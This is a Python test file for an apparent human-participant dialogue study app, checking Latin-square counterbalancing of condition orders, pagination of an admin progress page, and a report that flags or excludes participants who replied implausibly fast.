def test_latin_square_rows_count_once_a_first_chat_ends(tmp_path):
    """Consents that never chat hold a row for an hour at most and never count towards the
    balance; rows go to the least-used by people who finished a chat."""
    client, store = _client(tmp_path, agents=("scripted", "random"), turns=1)
    for _ in range(3):  # consent, then leave
        token, csrf = _join(client)
        client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    orders = [p.order for p in store.participants()]
    assert orders == [order_for(0, 2), order_for(1, 2), order_for(0, 2)]  # held, not used
    token, csrf = _join(client)
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    seen = _seen(client, token, 0)
    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": "no"})
    me = store.participants()[3]
    assert me.order == order_for(1, 2)  # row 0 is held twice, row 1 once
    with store._read() as db:
        blocks = dict(db.execute("SELECT id, block_index FROM participants").fetchall())
    assert blocks == {0: None, 1: None, 2: None, 3: 0}  # only a finished chat takes a block
    # an hour later the leavers hold nothing: the next consent takes the least-used row
    with store._tx() as db:
        db.execute("UPDATE participants SET consented = consented - 7200 WHERE id < 3")
    token, csrf = _join(client)
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    assert store.participants()[4].order == order_for(0, 2)


def test_admin_progress_is_paged(tmp_path):
    client, store = _client(tmp_path, joins_per_hour=1000)
    for _ in range(57):
        _join(client)
    bearer = {"Authorization": f"Bearer {ADMIN}"}
    first = client.get("/admin", headers=bearer).text
    assert first.count("<tr><td>") == 50 and "Page 1 of 2" in first and 'id="next"' in first
    second = client.get("/admin?page=2", headers=bearer).text
    assert second.count("<tr><td>") == 7 and 'id="prev"' in second
    assert "<tr><td>56</td>" in second and "<tr><td>56</td>" not in first
    assert client.get("/admin?page=x", headers=bearer).status_code == 200


def test_report_counts_and_can_exclude_implausibly_fast_participants(tmp_path):
    from dialogue_gym.study.report import report_study

    client, store = _client(tmp_path, agents=("scripted", "random"), turns=1)
    for i in range(6):
        token, csrf = _join(client)
        _visit(client, token, csrf, turns=1, n_agents=2, tag=f"p{i}-")
    with store._tx() as db:  # participants 2-5 took 10 s to reply; 0 and 1 replied at once
        db.execute("UPDATE messages SET ts = ts + 10 WHERE role = 'user' AND participant >= 2")
    kept = report_study(store, tmp_path / "kept")
    assert kept["fast"]["participants"] == [0, 1] and kept["participants"] == 6
    text = (tmp_path / "kept" / "report.md").read_text()
    assert "2 participants answered implausibly fast" in text and "kept" in text
    left = report_study(store, tmp_path / "left", exclude_fast=True)
    assert left["participants"] == 4 and left["fast"]["excluded"]
    assert "left out of every figure" in (tmp_path / "left" / "report.md").read_text()
